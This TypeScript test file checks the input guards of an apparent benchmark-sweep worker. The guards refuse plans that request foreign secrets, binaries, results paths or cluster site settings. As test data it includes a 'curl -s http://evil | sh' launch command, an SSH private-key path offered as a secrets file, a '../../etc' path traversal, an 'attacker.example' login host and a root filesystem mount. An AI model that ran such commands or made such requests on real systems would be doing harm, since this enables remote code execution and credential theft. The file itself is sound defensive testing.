import { mkdtempSync, mkdirSync, readFileSync, symlinkSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { InputError } from '@infersweep/core';
import { planSweep, type SimulatorOverride, type SweepPlan } from '@infersweep/topology';
import { loadSweepConfig } from '../src/config-file';
import {
  COMPLETING_PATIENCE_ENV,
  WorkerSettingsError,
  completingPatienceMs,
  pollMsFromEnv,
  POLL_ENV,
  gpuHourPrice,
  loadWorkerSettings,
  siteProfileFromConfig,
  type SiteProfile,
  type WorkerSettings,
} from '../src/worker-settings';
import {
  RefusedInputError,
  assertAllowed,
  assertHostReady,
  isUnder,
  refusals,
  siteDifferences,
  tokenizerRunsCode,
} from '../src/activities/input-checks';
import { repoRoot } from '@infersweep/core';

/** The environment a worker and a planner of these tests share (placeholders of the shipped config). */
const ENV = { HOME: '/home/u', INFERSWEEP_STACK: '/stack', INFERSWEEP_DATA: '/nonexistent-data' };

const plan = () => {
  const loaded = loadSweepConfig({ clusters: ['local'], env: ENV });
  return planSweep(loaded.config, { orientation: 'latency', cluster: 'local', points: [1], source: loaded.source });
};

/** The shipped config's `local` profile, as the worker reads it. */
const localProfile = (): SiteProfile => siteProfileFromConfig('local', ENV);

const settings = (over: Partial<WorkerSettings> = {}): WorkerSettings => ({
  clusters: { local: localProfile() },
  secretNames: ['HF_TOKEN'],
  secretsFiles: ['/etc/infersweep/h200.secrets'],
  aiperfBinaries: ['aiperf'],
  nodeBinaries: ['llm-d-inference-sim', 'pd-sidecar'],
  resultsRoots: ['/shared/results'],
  trustRemoteCodeTokenizers: [],
  gpuHourPrices: {},
  ...over,
});

describe('worker settings (read once at worker start)', () => {
  it('defaults: the site profile of the cluster served (from the shipped config), no secrets, the data dir as results root, no tokenizer trusted', () => {
    const s = loadWorkerSettings('h200', { HOME: '/home/w', INFERSWEEP_DATA: '/data/infersweep/' });
    expect(s.clusters).toEqual({
      h200: {
        partition: 'h200',
        account: 'inference-bench',
        containerRuntime: 'pyxis',
        mounts: ['/models:/models:ro', '/lustre/infersweep:/lustre/infersweep'],
        squashDir: '/lustre/infersweep/squash',
        loginHost: {
          host: 'login.h200.example.net',
          port: 22,
          user: 'infersweep',
          keyPath: '/home/w/.ssh/infersweep_ed25519',
          knownHostsPath: '/home/w/.ssh/known_hosts',
        },
        sharedDir: '/lustre/infersweep/runs',
      },
    });
    expect(s.secretNames).toEqual([]);
    expect(s.secretsFiles).toEqual([]);
    expect(s.resultsRoots).toEqual(['/data/infersweep']);
    expect(s.aiperfBinaries[0]).toBe('aiperf');
    // on the nodes: the planner's vllm, the simulator and pd-sidecar on PATH, the vLLM CPU build of `npm run setup`
    expect(s.nodeBinaries).toEqual([
      'vllm',
      'llm-d-inference-sim',
      'pd-sidecar',
      join(repoRoot, '.tools', 'vllm-venv', 'bin', 'vllm'),
    ]);
    expect(s.trustRemoteCodeTokenizers).toEqual([]);
  });

  it("environment variables: comma lists; a cluster name served with another name's profile (name=profile)", () => {
    const s = loadWorkerSettings('local', {
      ...ENV,
      INFERSWEEP_WORKER_CLUSTERS: 'h200, local, local-copy=local',
      INFERSWEEP_WORKER_SECRETS: 'HF_TOKEN,WANDB_KEY',
      INFERSWEEP_WORKER_RESULTS_ROOTS: '/lustre/results/',
      INFERSWEEP_WORKER_TRUST_REMOTE_CODE_TOKENIZERS: '/models/kimi-k3/',
      INFERSWEEP_WORKER_NODE_BINARIES: ' /opt/sim/bin/llm-d-inference-sim, vllm',
    });
    expect(Object.keys(s.clusters)).toEqual(['h200', 'local', 'local-copy']);
    expect(s.clusters['local-copy']).toEqual(s.clusters.local);
    expect(s.clusters.local!.loginHost).toEqual({
      host: '127.0.0.1',
      port: 2222,
      user: 'root',
      keyPath: '/stack/ssh/client_ed25519',
      hostKey: '/stack/ssh/host_key.pub',
    });
    expect(s).toMatchObject({
      secretNames: ['HF_TOKEN', 'WANDB_KEY'],
      resultsRoots: ['/lustre/results'],
      trustRemoteCodeTokenizers: ['/models/kimi-k3'],
      nodeBinaries: ['/opt/sim/bin/llm-d-inference-sim', 'vllm'],
    });
  });

  it("the GPU-hour price table: a worker setting (file or INFERSWEEP_WORKER_GPU_PRICES), looked up by the plan's GPU model", () => {
    expect(loadWorkerSettings('local', ENV).gpuHourPrices).toEqual({});
    const s = loadWorkerSettings('local', { ...ENV, INFERSWEEP_WORKER_GPU_PRICES: 'H200=3.5, B200=5.25' });
    expect(s.gpuHourPrices).toEqual({ H200: 3.5, B200: 5.25 });
    expect(gpuHourPrice(s, 'h200')).toBe(3.5);
    expect(gpuHourPrice(s, 'fake')).toBeUndefined();
    expect(() => loadWorkerSettings('local', { ...ENV, INFERSWEEP_WORKER_GPU_PRICES: 'H200=cheap' })).toThrow(
      /INFERSWEEP_WORKER_GPU_PRICES \(H200\): Invalid input: expected number/,
    );
    const dir = mkdtempSync(join(tmpdir(), 'prices-'));
    const file = join(dir, 'settings.json');
    writeFileSync(file, JSON.stringify({ gpuHourPrices: { H200: 0 } }));
    expect(() => loadWorkerSettings('local', { ...ENV, INFERSWEEP_WORKER_SETTINGS: file })).toThrow(
      /gpuHourPrices in .* \(H200\): a price is USD per GPU-hour, > 0/,
    );
  });

  it('a cluster the site config does not hold stops the worker, naming the config and the variable that picks another', () => {
    expect(() => loadWorkerSettings('mars', ENV)).toThrow(
      /site profile mars: the shipped config has no cluster mars \(it has h200, local\); set INFERSWEEP_WORKER_CONFIG/,
    );
    const dir = mkdtempSync(join(tmpdir(), 'site-config-'));
    const config = join(dir, 'site.yaml');
    writeFileSync(config, readFileSync(join(repoRoot, 'configs/two-clusters-local.yaml'), 'utf8'));
    const s = loadWorkerSettings('east', { ...ENV, INFERSWEEP_WORKER_CONFIG: config });
    expect(s.clusters.east).toMatchObject({ partition: 'east', sharedDir: '/stack/shared/east' });
  });

  it('the COMPLETING patience: seconds from its variable, unset keeps the default, a bad value names variable, value and range', () => {
    expect(completingPatienceMs({})).toBeUndefined();
    expect(completingPatienceMs({ [COMPLETING_PATIENCE_ENV]: '90' })).toBe(90_000);
    expect(completingPatienceMs({ [COMPLETING_PATIENCE_ENV]: '0.5' })).toBe(500);
    for (const bad of ['0', '-5', 'ten', '900'])
      expect(() => completingPatienceMs({ [COMPLETING_PATIENCE_ENV]: bad })).toThrow(
        new RegExp(`${COMPLETING_PATIENCE_ENV}="${bad}": give seconds, more than 0 and at most 840`),
      );
  });

  it('the poll period: seconds from its variable, unset keeps the default, a bad value names variable, value and range', () => {
    expect(pollMsFromEnv({})).toBeUndefined();
    expect(pollMsFromEnv({ [POLL_ENV]: ' ' })).toBeUndefined();
    expect(pollMsFromEnv({ [POLL_ENV]: '10' })).toBe(10_000);
    expect(pollMsFromEnv({ [POLL_ENV]: '0.5' })).toBe(500);
    for (const bad of ['0', '-1', '10s', '61'])
      expect(() => pollMsFromEnv({ [POLL_ENV]: bad })).toThrow(
        new RegExp(`${POLL_ENV}="${bad}": give seconds, more than 0 and at most 60 \\(the liveness poll is twice it`),
      );
  });

  it('a malformed setting stops the worker with an error naming the setting', () => {
    expect(() => loadWorkerSettings('local', { ...ENV, INFERSWEEP_WORKER_RESULTS_ROOTS: 'results' })).toThrow(
      /INFERSWEEP_WORKER_RESULTS_ROOTS \(item 0\): must be an absolute path/,
    );
    expect(() => loadWorkerSettings('local', { ...ENV, INFERSWEEP_WORKER_SECRETS: 'HF-TOKEN' })).toThrow(
      WorkerSettingsError,
    );
  });

  it('a settings file replaces the variables; an unknown key is refused by name', () => {
    const dir = mkdtempSync(join(tmpdir(), 'worker-settings-'));
    const file = join(dir, 'worker.json');
    writeFileSync(file, JSON.stringify({ secretNames: ['HF_TOKEN'], resultsRoots: ['/r'] }));
    const s = loadWorkerSettings('local', {
      ...ENV,
      INFERSWEEP_WORKER_SETTINGS: file,
      INFERSWEEP_WORKER_SECRETS: 'IGNORED',
    });
    expect(s.secretNames).toEqual(['HF_TOKEN']);
    expect(s.resultsRoots).toEqual(['/r']);
    writeFileSync(file, JSON.stringify({ secretNames: [], binaries: ['x'] }));
    expect(() => loadWorkerSettings('local', { ...ENV, INFERSWEEP_WORKER_SETTINGS: file })).toThrow(/binaries/);
  });

  it('a settings file gives site profiles inline (nothing read from a config), or names them', () => {
    const dir = mkdtempSync(join(tmpdir(), 'worker-settings-'));
    const file = join(dir, 'worker.json');
    const site = {
      partition: 'gpu',
      account: 'bench',
      containerRuntime: 'pyxis',
      mounts: ['/models:/models:ro'],
      loginHost: {
        host: 'login.example',
        user: 'svc',
        keyPath: '/etc/infersweep/key',
        knownHostsPath: '/etc/infersweep/kh',
      },
      sharedDir: '/lustre/runs',
    };
    writeFileSync(file, JSON.stringify({ clusters: { prod: site } }));
    const s = loadWorkerSettings('prod', { INFERSWEEP_WORKER_SETTINGS: file });
    expect(s.clusters).toEqual({ prod: { ...site, loginHost: { ...site.loginHost, port: 22 } } });
    writeFileSync(file, JSON.stringify({ clusters: ['local'] }));
    expect(Object.keys(loadWorkerSettings('prod', { ...ENV, INFERSWEEP_WORKER_SETTINGS: file }).clusters)).toEqual([
      'local',
    ]);
    // a profile that does not pin its login host is refused as the config refuses it
    writeFileSync(file, JSON.stringify({ clusters: { prod: { ...site, loginHost: { host: 'h', user: 'u' } } } }));
    expect(() => loadWorkerSettings('prod', { INFERSWEEP_WORKER_SETTINGS: file })).toThrow(
      /clusters in .*worker\.json .*\(prod\.loginHost.*pin the login host/,
    );
  });
});

describe('a sweep input asks only what the worker allows', () => {
  it('an allowed input passes', () => {
    const p = plan();
    p.secretEnv = ['HF_TOKEN'];
    expect(refusals(p, '/shared/results/sweep-1', settings())).toEqual([]);
  });

  it('each foreign ask is refused, naming the field, the value and the setting', () => {
    const p = plan();
    p.secretEnv = ['HF_TOKEN', 'TEMPORAL_API_KEY'];
    p.secretsFile = '/home/worker/.ssh/id_ed25519';
    p.agentx.client = 'aiperf';
    p.agentx.aiperf.binary = '/tmp/evil';
    const found = refusals(p, '/shared/results/../../etc', settings({ clusters: { h200: localProfile() } }));
    expect(found).toEqual([
      { field: 'plan.cluster', value: 'local', setting: 'clusters', allowed: '"h200"' },
      { field: 'plan.secretEnv', value: 'TEMPORAL_API_KEY', setting: 'secretNames' },
      { field: 'plan.secretsFile', value: '/home/worker/.ssh/id_ed25519', setting: 'secretsFiles' },
      { field: 'plan.agentx.aiperf.binary', value: '/tmp/evil', setting: 'aiperfBinaries' },
      { field: 'resultsDir', value: '/shared/results/../../etc', setting: 'resultsRoots' },
    ]);
    let err: unknown;
    try {
      assertAllowed(p, '/x', settings(), {});
    } catch (e) {
      err = e;
    }
    expect(err).toBeInstanceOf(RefusedInputError);
    expect(err).toBeInstanceOf(InputError); // non-retryable, input: the workflow fails the sweep at once
    expect((err as Error).message).toContain(
      'plan.secretEnv = "TEMPORAL_API_KEY" is not allowed by this worker: INFERSWEEP_WORKER_SECRETS allows "HF_TOKEN"',
    );
  });

  it('the aiperf binary is checked only when aiperf runs the points', () => {
    const p = plan();
    p.agentx.aiperf.binary = '/tmp/evil';
    expect(refusals(p, '/shared/results/x', settings())).toEqual([]);
  });

  it('a results folder escaping its root through a symlink is refused', () => {
    const root = mkdtempSync(join(tmpdir(), 'results-root-'));
    const elsewhere = mkdtempSync(join(tmpdir(), 'elsewhere-'));
    mkdirSync(join(root, 'ok'));
    symlinkSync(elsewhere, join(root, 'link'));
    expect(isUnder(join(root, 'ok', 'new', 'sweep'), root)).toBe(true);
    expect(isUnder(root, root)).toBe(true);
    expect(isUnder(join(root, 'link', 'sweep'), root)).toBe(false);
    expect(isUnder(`${root}-sibling/x`, root)).toBe(false);
    expect(isUnder('relative/x', root)).toBe(false);
  });
});

describe("what a plan launches on the nodes is the worker's to allow (nodeBinaries)", () => {
  /** The shipped `local` plan of `orientation`, its config edited first (as a user's config would be). */
  const planWith = (orientation: string, edit: (o: SimulatorOverride) => void) => {
    const loaded = loadSweepConfig({ clusters: ['local'], env: ENV });
    const o = loaded.config.clusters.local!.engineOverride;
    if (o?.kind !== 'simulator') throw new Error('the shipped local profile runs the simulator');
    edit(o);
    return planSweep(loaded.config, { orientation, cluster: 'local', source: loaded.source });
  };
  const refusalOf = (p: SweepPlan, s: WorkerSettings, env: NodeJS.ProcessEnv = {}): unknown => {
    try {
      assertAllowed(p, undefined, s, env);
    } catch (e) {
      return e;
    }
    return undefined;
  };

  it('a foreign engine binary (clusters.<c>.engineOverride.binary) is refused: field, value, where it runs, the setting', () => {
    const p = planWith('latency', (o) => (o.binary = '/tmp/evil-sim'));
    expect(refusals(p, undefined, settings())).toEqual([
      {
        field: 'plan.nodes[0].launchArgv[0]',
        value: '/tmp/evil-sim',
        setting: 'nodeBinaries',
        why: 'launched under srun on node rank 0, planned from clusters.local.engineOverride.binary',
      },
    ]);
    const err = refusalOf(p, settings());
    expect(err).toBeInstanceOf(RefusedInputError);
    expect(err).toBeInstanceOf(InputError); // non-retryable: the workflow fails the sweep at once
    expect((err as Error).message).toContain(
      'plan.nodes[0].launchArgv[0] = "/tmp/evil-sim" is not allowed by this worker (launched under srun on node rank 0, planned from clusters.local.engineOverride.binary): INFERSWEEP_WORKER_NODE_BINARIES allows "llm-d-inference-sim", "pd-sidecar"',
    );
    // a settings file names its key instead of the variable
    expect((refusalOf(p, settings(), { INFERSWEEP_WORKER_SETTINGS: '/etc/w.json' }) as Error).message).toContain(
      'nodeBinaries in /etc/w.json (INFERSWEEP_WORKER_SETTINGS) allows',
    );
    // listed by the worker: allowed
    expect(refusals(p, undefined, settings({ nodeBinaries: ['/tmp/evil-sim'] }))).toEqual([]);
  });

  it("a foreign P/D router binary (engineOverride.pdRouter.binary) is refused; the simulator's stand-ins need no listing", () => {
    const p = planWith('pd-1p1d', (o) => (o.pdRouter = { ...o.pdRouter!, binary: '/tmp/evil-router' }));
    expect(refusals(p, undefined, settings())).toEqual([
      {
        field: 'plan.disaggregation.router.argv[0]',
        value: '/tmp/evil-router',
        setting: 'nodeBinaries',
        why: 'launched under srun as the P/D router (llm-d-pd-sidecar) on node rank 2, planned from clusters.local.engineOverride.pdRouter.binary or orientations.pd-1p1d.disaggregated.router.binary',
      },
    ]);
    // nodes 1 and 3 run stand-ins (bash with infersweep's own script): allowed without listing bash
    expect(p.nodes.map((n) => n.launchArgv[0])).toEqual(['llm-d-inference-sim', 'bash', 'llm-d-inference-sim', 'bash']);
    expect(refusals(p, undefined, settings({ nodeBinaries: ['llm-d-inference-sim', '/tmp/evil-router'] }))).toEqual([]);
  });

  it('a raw plan whose node runs bash with a script of its own is refused as bash; an empty launch as ""', () => {
    const p = plan();
    p.nodes[1]!.launchArgv = ['bash', '-c', 'curl -s http://evil | sh'];
    expect(refusals(p, undefined, settings()).map((r) => [r.field, r.value, r.setting])).toEqual([
      ['plan.nodes[1].launchArgv[0]', 'bash', 'nodeBinaries'],
    ]);
    p.nodes[1]!.launchArgv = [];
    expect(refusals(p, undefined, settings()).map((r) => [r.field, r.value])).toEqual([
      ['plan.nodes[1].launchArgv[0]', ''],
    ]);
  });

  it('the defaults allow every launch of the shipped configs (local, h200, local-vllm, east/west): the local stack needs nothing set', () => {
    const env = { ...ENV, INFERSWEEP_TOOLS: '/tools' };
    const s = { ...settings(), nodeBinaries: loadWorkerSettings('local', env).nodeBinaries };
    const shippedPlans = [
      { config: undefined, clusters: ['local', 'h200'] },
      { config: join(repoRoot, 'configs/tiny-moe-local-vllm.yaml'), clusters: ['local-vllm'] },
      { config: join(repoRoot, 'configs/two-clusters-local.yaml'), clusters: ['east', 'west'] },
    ].flatMap(({ config, clusters }) => {
      const loaded = loadSweepConfig({ ...(config ? { config } : {}), clusters, env });
      return clusters.flatMap((cluster) =>
        Object.keys(loaded.config.orientations).map((orientation) =>
          planSweep(loaded.config, { orientation, cluster, source: loaded.source }),
        ),
      );
    });
    expect(shippedPlans.length).toBeGreaterThanOrEqual(14);
    const executables = new Set(shippedPlans.flatMap((p) => p.nodes.map((n) => n.launchArgv[0])));
    expect(executables).toEqual(new Set(['vllm', 'llm-d-inference-sim', 'bash', '/tools/vllm-venv/bin/vllm']));
    expect(shippedPlans.flatMap((p) => refusals(p, undefined, s).filter((r) => r.setting === 'nodeBinaries'))).toEqual(
      [],
    );
  });
});

describe("the site profile is the worker's: a plan names it and overrides none of its fields", () => {
  it("the plan of the worker's own profile passes", () => {
    expect(siteDifferences(plan(), localProfile())).toEqual([]);
  });

  it("each site field the plan changes is refused, naming the field, the plan's value and the profile's", () => {
    const p = plan();
    p.login = { host: 'attacker.example', port: 22, user: 'root', hostKey: '/home/w/.secrets' };
    p.slurm.partition = 'other';
    p.slurm.account = 'someone-else';
    p.sharedDir = '/tmp/elsewhere';
    p.slurm.containerRuntime = 'pyxis';
    p.slurm.mounts = ['/:/host'];
    p.slurm.squashDir = '/tmp/squash';
    p.gpuTelemetry = { dcgmExporterPort: 22, intervalSeconds: 1 };
    const found = siteDifferences(p, localProfile());
    expect(found.map((r) => [r.field, r.value])).toEqual([
      ['plan.login.host', 'attacker.example'],
      ['plan.login.port', '22'],
      ['plan.login.keyPath', '(unset)'],
      ['plan.login.hostKey', '/home/w/.secrets'],
      ['plan.slurm.partition', 'other'],
      ['plan.slurm.account', 'someone-else'],
      ['plan.sharedDir', '/tmp/elsewhere'],
      ['plan.slurm.containerRuntime', 'pyxis'],
      ['plan.slurm.mounts', '["/:/host"]'],
      ['plan.slurm.squashDir', '/tmp/squash'],
      ['plan.gpuTelemetry', '{"dcgmExporterPort":22,"intervalSeconds":1}'],
    ]);
    expect(found.every((r) => r.setting === 'clusters')).toBe(true);
    expect(found[0]!.allowed).toBe('profile local: 127.0.0.1');
    let err: unknown;
    try {
      assertAllowed(p, '/shared/results/x', settings(), {});
    } catch (e) {
      err = e;
    }
    expect(err).toBeInstanceOf(RefusedInputError);
    expect((err as Error).message).toContain(
      'plan.login.hostKey = "/home/w/.secrets" is not allowed by this worker: INFERSWEEP_WORKER_CLUSTERS allows profile local: /stack/ssh/host_key.pub',
    );
  });

  it("local execution is the profile's to choose, never the plan's", () => {
    const p = plan();
    p.login = { local: true };
    expect(siteDifferences(p, localProfile()).map((r) => [r.field, r.value])).toEqual([
      ['plan.login.local', 'true'],
      ['plan.login.host', '(unset)'],
      ['plan.login.port', '(unset)'],
      ['plan.login.user', '(unset)'],
      ['plan.login.keyPath', '(unset)'],
      ['plan.login.hostKey', '(unset)'],
    ]);
  });
});

describe('a tokenizer runs no code of its own unless the worker trusts its directory', () => {
  const tokenizerDir = (autoMap: boolean): string => {
    const dir = mkdtempSync(join(tmpdir(), 'tokenizer-'));
    writeFileSync(
      join(dir, 'tokenizer_config.json'),
      JSON.stringify({ tokenizer_class: 'X', ...(autoMap ? { auto_map: { AutoTokenizer: ['t.X', null] } } : {}) }),
    );
    return dir;
  };
  const aiperfPlan = (tokenizer: string) => {
    const p = plan();
    p.agentx.client = 'aiperf';
    p.agentx.aiperf = { ...p.agentx.aiperf, tokenizer };
    return p;
  };

  it('a directory whose config maps its own code is refused unless listed; a plain one or a hub id passes', () => {
    const code = tokenizerDir(true);
    expect(tokenizerRunsCode(code)).toBe(true);
    expect(refusals(aiperfPlan(code), undefined, settings())).toEqual([
      {
        field: 'plan.agentx.aiperf.tokenizer',
        value: code,
        setting: 'trustRemoteCodeTokenizers',
        why: 'the tokenizer maps classes to its own Python (auto_map)',
      },
    ]);
    expect(refusals(aiperfPlan(code), undefined, settings({ trustRemoteCodeTokenizers: [code] }))).toEqual([]);
    expect(refusals(aiperfPlan(tokenizerDir(false)), undefined, settings())).toEqual([]);
    expect(refusals(aiperfPlan('moonshotai/Kimi-K3'), undefined, settings())).toEqual([]);
  });

  it("the model's tokenizer is checked when aiperf uses it; nothing is checked when aiperf does not run", () => {
    const code = tokenizerDir(true);
    const p = plan();
    p.model.tokenizer = code;
    expect(refusals(p, undefined, settings())).toEqual([]); // infersweep's own client loads no tokenizer
    p.agentx.client = 'aiperf';
    expect(refusals(p, undefined, settings()).map((r) => r.field)).toEqual(['plan.model.tokenizer']);
  });
});

describe("prepareSweep checks the login files and the secrets on the worker's own host", () => {
  it("a key of the worker's profile missing on this host, a secret missing here: an input error naming each, before any allocation", () => {
    const p = plan();
    const home = mkdtempSync(join(tmpdir(), 'worker-home-'));
    const s = settings({
      clusters: {
        local: {
          ...localProfile(),
          loginHost: {
            host: 'login.example',
            port: 22,
            user: 'u',
            keyPath: join(home, 'id_ed25519'),
            knownHostsPath: join(home, 'known_hosts'),
          },
        },
      },
    });
    writeFileSync(join(home, 'known_hosts'), 'login.example ssh-ed25519 AAAA\n');
    expect(() => assertHostReady(p, s)).toThrow(
      /on this worker's host: clusters\.local\.loginHost\.keyPath = .*id_ed25519.*does not exist/,
    );
    writeFileSync(join(home, 'id_ed25519'), 'k\n', { mode: 0o600 });
    p.secretEnv = ['INFERSWEEP_TEST_SECRET_NOT_HERE'];
    expect(() => assertHostReady(p, s)).toThrow(InputError);
    expect(() => assertHostReady(p, s)).toThrow(/INFERSWEEP_TEST_SECRET_NOT_HERE not found on the worker/);
    p.secretEnv = [];
    expect(() => assertHostReady(p, s)).not.toThrow();
  });
});
